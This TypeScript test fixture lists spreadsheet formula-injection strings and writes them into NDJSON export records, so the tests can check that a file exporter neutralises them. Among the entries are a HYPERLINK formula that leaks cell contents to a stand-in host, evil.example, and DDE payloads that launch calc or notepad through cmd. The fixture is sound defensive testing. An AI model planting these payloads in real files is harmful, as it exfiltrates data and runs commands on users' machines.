/**
 * Spreadsheet-injection corpus for the export tests, and file-export NDJSON (product doc 003)
 * that carries every entry in the actor name, the target name and the description.
 * `formula` says whether a spreadsheet could take the text for a formula — stated per entry
 * here, not derived from the exporter's own pattern.
 */
import { fileExportRecord } from './fileExportLines';

export interface CorpusEntry {
  text: string;
  formula: boolean;
}

export const INJECTION_CORPUS: readonly CorpusEntry[] = [
  { text: '=1+1', formula: true },
  { text: '+1+1', formula: true },
  { text: '-1+1', formula: true },
  { text: '@SUM(A1:A2)', formula: true },
  { text: '\t=1+1', formula: true },
  { text: '\r=1+1', formula: true },
  { text: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")', formula: true },
  { text: '@SUM(1+9)*cmd|\' /C calc\'!A0', formula: true },
  { text: '-2+3', formula: true },
  { text: "+cmd|' /C calc'!A0", formula: true },
  { text: "=cmd|' /C notepad'!'A1'", formula: true },
  { text: '=', formula: true },
  { text: '\uFF1D1+1', formula: true }, // full-width equals
  { text: '\uFE661+1', formula: true }, // small equals
  { text: '\uFF0B1+1', formula: true }, // full-width plus
  { text: '\uFF0D1+1', formula: true }, // full-width minus
  { text: '\uFF20SUM(1)', formula: true }, // full-width at
  { text: '  =1+1', formula: true },
  { text: ' \t =HYPERLINK("x")', formula: true },
  { text: '\u00A0=1+1', formula: true },
  { text: '\n=1+1', formula: true },
  { text: 'line one\n=line two', formula: false },
  { text: '"=quoted"', formula: false },
  { text: 'a "quote", and, commas', formula: false },
  { text: 'two\r\nlines', formula: false },
  { text: 'Zoë Müller — ünïcödé', formula: false },
  { text: 'plain text', formula: false },
  { text: 'name-with-dash', formula: false },
  { text: 'a=b+c', formula: false },
];

/** One record per corpus entry, then `extra` ordinary ones; times one minute apart. */
export function corpusNdjson(extra = 0): string {
  const lines: string[] = [];
  INJECTION_CORPUS.forEach(({ text }, i) => {
    const record = fileExportRecord(i, { count: 0 });
    record.actor = { ...(record.actor as object), label: text };
    record.target = { ...(record.target as object), label: text };
    record.description = text;
    lines.push(JSON.stringify(record));
  });
  for (let i = INJECTION_CORPUS.length; i < INJECTION_CORPUS.length + extra; i += 1) lines.push(JSON.stringify(fileExportRecord(i, { count: 0 })));
  return `${lines.join('\n')}\n`;
}
